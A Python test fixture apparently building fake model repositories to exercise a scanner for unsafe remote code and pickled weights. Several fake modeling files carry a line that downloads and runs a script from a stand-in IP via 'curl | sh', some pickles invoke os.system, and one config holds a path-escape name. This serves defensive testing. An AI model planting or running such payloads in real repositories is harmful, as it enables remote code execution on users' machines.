"""The repositories the remote-rules corpus loads, as data served by the loopback hub (see README.md); they
are the remote-code corpus's ``Repo`` (tests/remote_code/corpus), which the same ``serve_repos`` serves.

Code here is text: it is served and scanned, never imported or run.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

from tests.inspectors.fixtures import (
    safetensors_bytes,
    sklearn_estimator_pickle,
    stack_global,
    system_call,
    torch_state_dict_pickle,
)
from tests.remote_code.corpus import Repo


def config(auto_map: Mapping[str, str] | None = None) -> bytes:
    data: dict[str, Any] = {"model_type": "custom"}
    if auto_map is not None:
        data["auto_map"] = dict(auto_map)
    return json.dumps(data).encode()


def cross_to(repo_id: str) -> bytes:
    return config({"AutoConfig": f"{repo_id}--modeling.CustomConfig", "AutoModel": f"{repo_id}--modeling.CustomModel"})


OWN_CODE = {"AutoConfig": "modeling.CustomConfig", "AutoModel": "modeling.CustomModel"}
MODEL = (
    b"import torch\nfrom transformers import PretrainedConfig, PreTrainedModel\n\n\n"
    b"class CustomConfig(PretrainedConfig):\n    model_type = 'custom'\n\n\n"
    b"class CustomModel(PreTrainedModel):\n    config_class = CustomConfig\n\n"
    b"    def forward(self, hidden_states):\n        return torch.relu(hidden_states)\n"
)
CURL_SH = b"import os\nos.system('curl -s https://203.0.113.7/stage2 | sh')\n"
GCC_BUILD = b"import os\nos.system('gcc -O3 -fPIC -shared -o kernel.so kernel.c')\n"
SAFETENSORS = safetensors_bytes()


def _own(repo_id: str, modeling: bytes = MODEL, **options: Any) -> Repo:
    return Repo(repo_id, {"config.json": config(OWN_CODE), "modeling.py": modeling}, **options)


def repos() -> list[Repo]:
    fan_out = {f"AutoModel{index}": f"rc-code/fan{index}--modeling.CustomModel" for index in range(10)}
    return [
        # remote_code.py
        _own("rc/custom-model", branches={"dev": {"config.json": config(OWN_CODE), "modeling.py": CURL_SH + MODEL}}),
        Repo("rc/custom-tokenizer", {
            "config.json": config(),
            "tokenizer_config.json": json.dumps({"auto_map": {"AutoTokenizer": [None, "tokenizer.FastTok"]}}).encode(),
            "tokenizer.py": b"from transformers import PreTrainedTokenizerFast\n\n\nclass FastTok(PreTrainedTokenizerFast):\n"
                            b"    pass\n",
        }),
        Repo("rc/scripted-data", {"scripted_data.py": b"import datasets\n\n\nclass Builder(datasets.GeneratorBasedBuilder):\n"
                                                         b"    pass\n"}, repo_type="dataset"),
        _own("rc/curl-pipe-sh", CURL_SH + MODEL),
        _own("rc/gcc-kernel", GCC_BUILD + MODEL),
        Repo("rc/hub-flagged", {"config.json": config(), "model.safetensors": SAFETENSORS},
                security_status={"scansDone": True, "filesWithIssues": [{"path": "model.safetensors", "level": "unsafe"}]}),
        # weights.py
        Repo("rc/pickle-os-system", {"config.json": config(), "pytorch_model.bin": system_call("touch /tmp/rc", 2)}),
        Repo("rc/pickle-unknown-class", {"config.json": config(),
                                            "pytorch_model.bin": b"\x80\x04" + stack_global("mylib.models", "Net") + b"."}),
        Repo("rc/pickle-sklearn", {"config.json": config(), "pytorch_model.bin": sklearn_estimator_pickle()}),
        Repo("rc/pickle-state-dict", {"config.json": config(), "pytorch_model.bin": torch_state_dict_pickle()}),
        Repo("rc/with-safetensors", {"config.json": config(), "model.safetensors": SAFETENSORS,
                                        "pytorch_model.bin": system_call("touch /tmp/rc", 2)}),
        # other_repositories.py
        Repo("rc/cross-clean", {"config.json": cross_to("rc-code/clean-arch")}),
        Repo("rc/cross-tag", {"config.json": cross_to("rc-code/clean-arch")}),
        Repo("rc-code/clean-arch", {"modeling.py": MODEL}, tags={"v1.0": "main"}),
        Repo("rc/cross-evil", {"config.json": cross_to("rc-code/evil-arch")}),
        Repo("rc-code/evil-arch", {"modeling.py": CURL_SH + MODEL}),
        Repo("rc/cross-missing", {"config.json": cross_to("rc-gone/arch")}),
        Repo("rc/self-named", {"config.json": cross_to("rc/self-named"), "modeling.py": MODEL}),
        Repo("rc/sd-base", {"model_index.json": b'{"_class_name": "StableDiffusionPipeline"}'}),
        Repo("rc/pipe-evil", {"pipeline.py": CURL_SH + b"\n\nclass FastPipeline:\n    pass\n"}),
        Repo("rc/gen-clean", {"custom_generate/generate.py": b"def generate(model, input_ids, **kwargs):\n"
                                                                  b"    return model(input_ids)\n"}),
        Repo("rc/fan-out", {"config.json": config(fan_out)}),
        *(Repo(f"rc-code/fan{index}", {"modeling.py": MODEL}) for index in range(10)),
        # incomplete.py
        _own("rc/gated", gated=True),
        _own("rc/rate-limited", rate_limited=True),
        Repo("rc/refused-name", {"config.json": config({"AutoConfig": "..escape.Cfg", "AutoModel": "modeling.CustomModel"}),
                                    "modeling.py": MODEL}),
    ]
